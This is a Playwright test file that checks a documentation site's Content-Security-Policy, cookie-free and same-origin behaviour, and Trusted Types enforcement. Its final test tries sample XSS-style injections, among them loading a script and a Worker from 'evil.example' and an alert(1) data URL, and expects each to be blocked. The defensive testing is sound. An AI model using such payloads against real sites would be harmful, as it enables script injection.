import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync } from 'node:fs';
import { parse } from 'node-html-parser';
import type { BrowserContextOptions, Page } from '@playwright/test';
import { listHtmlFiles } from '../../scripts/postbuild/html-files';
import { visit } from './support/browser';
import { closed, openSearch, searchFor } from './support/search';
import { follow, test, type Open } from './support/suite';

const guide = '/fr/v1/guides/features/command';

test('every exported page begins with its policy, which names each inline script and style, and nothing is unsafe', () => {
  // The document of the samples' windows has a policy of its own: essai-safety.e2e.ts.
  const files = listHtmlFiles('out').filter((name) => !name.endsWith('/cadre.html'));
  assert.ok(files.length > 100);
  const faults = files.flatMap((name) => {
    const html = readFileSync(`out/${name}`, 'utf8');
    const policy = /<head><meta http-equiv="Content-Security-Policy" content="([^"]*)"\/>/.exec(html)?.[1];
    if (policy === undefined) return [`${name}: the policy is not first`];
    if (/unsafe|\*|http:/.test(policy)) return [`${name}: ${policy}`];
    const root = parse(html, { comment: false, blockTextElements: { script: true, style: true } });
    const unnamed = root
      .querySelectorAll('script:not([src]):not([type="application/ld+json"]), style')
      .filter(({ rawText }) => {
        const hash = createHash('sha256').update(rawText).digest('base64');
        return !policy.includes(`'sha256-${hash}'`);
      });
    const risky = root
      .querySelectorAll('*')
      .filter(({ attributes }) =>
        Object.entries(attributes).some(
          ([key, value]) => /^(?:on.*|style|srcdoc)$/i.test(key) || /^\s*javascript:/i.test(value),
        ),
      );
    return [...unnamed, ...risky].map((element) => `${name}: ${element.toString().slice(0, 120)}`);
  });
  assert.deepEqual(faults, []);
});

test('nothing is sent to anyone unless a build says where: no script of the export holds the reports', () => {
  const scripts = readdirSync('out/_next/static/live').filter((name) => name.endsWith('.js'));
  assert.ok(scripts.length > 5);
  const texts = scripts.map((name) => readFileSync(`out/_next/static/live/${name}`, 'utf8'));
  for (const sign of ['empty-search', 'search:answered', 'largest-contentful-paint'])
    assert.ok(
      texts.every((text) => !text.includes(sign)),
      sign,
    );
  assert.match(readFileSync('out/fr.html', 'utf8'), /connect-src 'self';/);
});

/** Opens a page that notes what breaks the policy and what is asked for elsewhere. */
async function openWatched(
  { open, url }: { open: Open; url: (path: string) => string },
  path: string,
  options: BrowserContextOptions = {},
): Promise<{ page: Page; assertSafe: () => Promise<void> }> {
  const found: string[] = [];
  const { page, context } = await open(path, {
    ...options,
    expected: /404/,
    prepare: async (fresh) => {
      fresh.on('request', (request) => {
        const { origin, protocol } = new URL(request.url());
        if (protocol.startsWith('http') && origin !== url('')) found.push(`asks ${request.url()}`);
      });
      await fresh.exposeFunction('noteViolation', (text: string) => found.push(text));
      await fresh.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', (event) => {
          const { noteViolation } = window as unknown as { noteViolation: (text: string) => void };
          noteViolation(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
        });
      });
    },
  });
  const assertSafe = async (): Promise<void> => {
    assert.deepEqual(found, []);
    assert.deepEqual(await context.cookies(), []);
  };
  return { page, assertSafe };
}

test('no feature of a wide screen breaks the policy, leaves the origin or sets a cookie', async ({
  open,
  url,
}) => {
  const { page, assertSafe } = await openWatched({ open, url }, '/fr/');
  await page.locator('aside.announcement button').click();
  await page.locator('.navbar .dropdown > summary').first().click();
  await page.keyboard.press('Escape');
  await page.locator('.navbar .color-mode').click();

  await follow(page, guide);
  await page.waitForURL(`**${guide}`);
  await page.locator('.code-tools button:not([hidden])').first().click({ force: true });
  await page.locator('.heading-link').first().click({ force: true });
  await page.locator('.sidebar-row > button').filter({ visible: true }).first().click();
  await page.locator('.copy-markdown').click();
  await page.evaluate(() => (window.print = () => undefined));
  const print = page.locator('.print-section');
  if ((await print.count()) > 0) await print.click();

  await openSearch(page);
  await searchFor(page, 'fenêtre');
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await closed(page);

  for (const opener of ['.site-footer [data-offline-open]', '[data-shortcuts-open]']) {
    await page.click(opener);
    await page.locator('dialog[open]').waitFor();
    await page.keyboard.press('Escape');
  }
  for (const path of [
    '/fr/v1/api/config',
    '/fr/v1/api/js/window',
    '/fr/v1/api/cli',
    '/fr/releases',
    '/fr/blog',
  ]) {
    await follow(page, path);
    await page.waitForURL(`**${path}`);
    await page.locator('#page h1').waitFor();
    const filter = page.locator('.filter input');
    if ((await filter.count()) > 0) await filter.first().fill('url');
  }
  await follow(page, '/fr/blog/2022/06/19/tauri-1-0');
  await page.waitForURL('**/fr/blog/2022/**');
  await page.goBack();
  await page.waitForURL('**/fr/blog');
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
  await assertSafe();
});

test('nor on a narrow screen, on tabs, on the not-found page, after a failed load', async ({ open, url }) => {
  const { page, assertSafe } = await openWatched(
    { open, url },
    '/fr/v1/guides/getting-started/prerequisites',
    {
      viewport: { width: 360, height: 740 },
      reducedMotion: 'reduce',
    },
  );
  await page.locator('[role="tab"][aria-selected="false"]:visible').first().click();
  await page.click('.menu-button');
  await page.click('.mobile-back');
  await page.keyboard.press('Escape');
  await page.evaluate(() => {
    document.dispatchEvent(new CustomEvent('load:failed', { detail: { what: 'part', retry: () => 0 } }));
  });
  await page.locator('.load-error').waitFor();
  await visit(page, url('/fr/nulle-part'));
  await assertSafe();
});

test('a text never becomes markup or the address of a foreign script', async ({ open }) => {
  const { page } = await open(guide, { expected: /Trusted|TrustedHTML|trusted|policy|directive/i });
  const outcomes = await page.evaluate(() => {
    const attempts: Record<string, () => unknown> = {
      markup: () => (document.createElement('div').innerHTML = '<img src="x">'),
      adjacent: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
      address: () => (document.createElement('script').src = 'https://evil.example/x.js'),
      data: () => (document.createElement('script').src = 'data:text/javascript,alert(1)'),
      worker: () => new Worker('https://evil.example/x.js'),
      text: () => (document.createElement('script').textContent = 'alert(1)'),
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => object } }
        ).trustedTypes.createPolicy('default', {}),
    };
    return Object.fromEntries(
      Object.entries(attempts).map(([name, attempt]) => {
        try {
          attempt();
          return [name, 'done'];
        } catch (error) {
          return [name, (error as Error).name];
        }
      }),
    );
  });
  for (const [name, outcome] of Object.entries(outcomes)) assert.equal(outcome, 'TypeError', name);
});
